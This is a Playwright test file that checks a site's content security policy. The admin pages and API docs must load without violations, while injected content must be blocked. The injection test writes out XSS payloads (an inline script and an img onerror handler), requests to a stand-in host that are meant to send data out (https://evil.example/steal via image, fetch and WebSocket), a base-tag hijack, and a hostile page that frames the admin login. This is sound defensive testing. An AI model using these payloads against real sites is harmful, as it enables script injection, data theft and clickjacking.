"""The content security policy in a real browser: every kind of page works under it, and injections do not."""

import pytest
from playwright.async_api import Page, expect

from tests.end_to_end.browser.conftest import OpenWindow, Site

pytestmark = pytest.mark.asyncio(loop_scope="session")

# Browsers report whatever their policy kept from happening.
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""


async def expect_no_violation(page: Page) -> None:
    assert await page.evaluate("window.violations") == []


async def test_the_admins_pages_break_no_policy(site: Site, open_window: OpenWindow) -> None:
    window = await open_window()
    page = window.page
    await page.add_init_script(WATCH)
    await page.goto(f"{site.server.http}/admin/")
    await page.get_by_label("User name").fill("admin")
    await page.get_by_label("Password").fill("admin-demo")
    await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.locator("#site-name")).to_be_visible()
    links = await page.locator("#content-main table th[scope=row] a").evaluate_all(
        "links => links.map((link) => link.href)"
    )

    # Each list, with its filters and actions, and the form behind its first row or for a new one.
    assert len(links) >= 4
    for link in links:
        await page.goto(link)
        await expect(page.locator("#content-main")).to_be_visible()
        await expect_no_violation(page)
        row = page.locator("#result_list tbody th a").first
        add = page.locator(".object-tools .addlink")
        entry = row if await row.count() else add
        if await entry.count():
            await entry.first.click()
            await expect(page.locator("#content-main form").first).to_be_visible()
            await expect_no_violation(page)


async def test_the_apis_documentation_breaks_no_policy(site: Site, open_window: OpenWindow) -> None:
    window = await open_window()
    page = window.page
    await page.add_init_script(WATCH)

    await page.goto(f"{site.server.http}/api/docs")

    first = page.locator(".opblock-summary").first
    await expect(first).to_be_visible()
    await first.click()
    await expect(page.locator(".opblock-body").first).to_be_visible()
    await expect_no_violation(page)


async def test_what_is_injected_into_the_page_neither_runs_nor_sends(
    site: Site, open_window: OpenWindow
) -> None:
    window = await open_window()
    window.forgive("Content Security Policy", "requires 'Trusted", "WebSocket connection", "Failed to load")
    page = window.page
    await page.add_init_script(WATCH)
    await window.enter("alice")
    await expect_no_violation(page)

    done = await page.evaluate("""async () => {
      const attempts = {
        inline_script() {
          const script = document.createElement("script");
          script.textContent = "window.isOwned = true";
          document.head.append(script);
        },
        html() { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='isOwned=true'>"); },
        foreign_image() { new Image().src = "https://evil.example/steal?it"; },
        async foreign_fetch() { await fetch("https://evil.example/steal"); },
        foreign_socket() { new WebSocket("wss://evil.example/"); },
        base() {
          const base = document.createElement("base");
          base.href = "https://evil.example/";
          document.head.append(base);
          if (!document.baseURI.startsWith("https://evil.example")) throw new Error("ignored");
        },
      };
      const threw = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try { await attempt(); } catch { threw.push(name); }
      }
      return threw;
    }""")

    assert await page.evaluate("window.isOwned") is None
    assert {"inline_script", "html", "foreign_fetch", "base"} <= set(done)
    await page.wait_for_function("window.violations.length >= 6")
    violated = {text.split()[0] for text in await page.evaluate("window.violations")}
    assert {"require-trusted-types-for", "img-src", "connect-src", "base-uri"} <= violated


async def test_no_page_shows_the_site_in_a_frame(site: Site, open_window: OpenWindow) -> None:
    window = await open_window()
    window.forgive("frame-ancestors", "X-Frame-Options", "Framing")
    page = window.page
    # A page of another origin, made up.
    await page.route(
        "http://evil.example/*",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe id=frame src='{site.server.http}/admin/login/'></iframe>"
        ),
    )

    await page.goto("http://evil.example/")

    [frame] = page.main_frame.child_frames
    await frame.wait_for_url("chrome-error://**")
    assert await frame.locator("input").count() == 0
